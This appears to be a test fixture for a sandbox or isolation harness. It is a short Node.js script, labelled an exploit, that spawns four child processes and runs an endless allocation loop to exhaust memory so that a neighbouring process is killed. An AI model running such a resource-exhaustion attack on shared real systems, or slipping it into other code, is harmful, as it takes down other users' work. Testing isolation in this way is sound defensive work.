// exploit: takes memory and processor so greedily that a neighbour is ended in its place
// outcome: out-of-memory
// beside: neighbour
// wall: 20000
const { spawn } = require('node:child_process')
const fill = 'const kept = []; for (;;) kept.push(Buffer.alloc(1 << 20, 1))'
for (let child = 0; child < 4; child += 1) spawn(process.execPath, ['-e', fill], { stdio: 'ignore' })
const kept = []
setInterval(() => kept.push(Buffer.alloc(8 << 20, 1)), 1)
